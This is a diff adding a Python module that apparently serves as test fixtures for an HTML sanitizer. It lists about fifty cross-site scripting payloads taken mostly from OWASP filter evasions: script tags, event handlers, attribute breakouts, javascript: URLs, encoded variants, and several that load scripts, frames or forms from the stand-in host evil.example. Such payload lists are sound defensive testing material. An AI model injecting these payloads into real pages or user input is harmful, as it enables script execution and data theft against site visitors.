@@ -1,0 +1,60 @@
+"""What attackers write where customers and mails may write, to run as a script on a page.
+
+Each line calls `alert`, or asks another origin for something, if a page takes it for markup, for
+an attribute, for a script or for an address. OWASP's list of filter evasions is the source of most.
+"""
+
+ELSEWHERE = "https://evil.example/x"
+"""What a page must not ask for."""
+
+SCRIPTS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt>alert(1)</sCrIpT>",
+    f"<script src={ELSEWHERE}.js></script>",
+    "<img src=x onerror=alert(1)>",
+    f'<img src="{ELSEWHERE}.png">',
+    "<img src=`x` onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
+    f'<iframe src="{ELSEWHERE}"></iframe>',
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<object data=javascript:alert(1)></object>",
+    f'<link rel=stylesheet href="{ELSEWHERE}.css">',
+    f"<style>@import '{ELSEWHERE}.css';</style>",
+    f"<style>body{{background:url({ELSEWHERE}.png)}}</style>",
+    f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}">',
+    f'<base href="{ELSEWHERE}/">',
+    f'<form action="{ELSEWHERE}"><button autofocus>Send</button></form>',
+    '"><script>alert(1)</script>',
+    "'><img src=x onerror=alert(1)>",
+    '" autofocus onfocus="alert(1)',
+    "' onmouseover='alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>",
+    "javascript:alert(1)",
+    "[a link](javascript:alert(1))",
+    '<a href="javascript:alert(1)">a link</a>',
+    "data:text/html,<script>alert(1)</script>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "{{ 7*7 }}{% raw %}${7*7}",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<<script>alert(1);//<</script>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    '<div hx-get="/x" hx-trigger="load" hx-on:load="alert(1)">',
+    '<x data-hx-get="https://evil.example/x" data-hx-trigger="load">',
+    "\u202e<script>alert(1)</script>",
+)
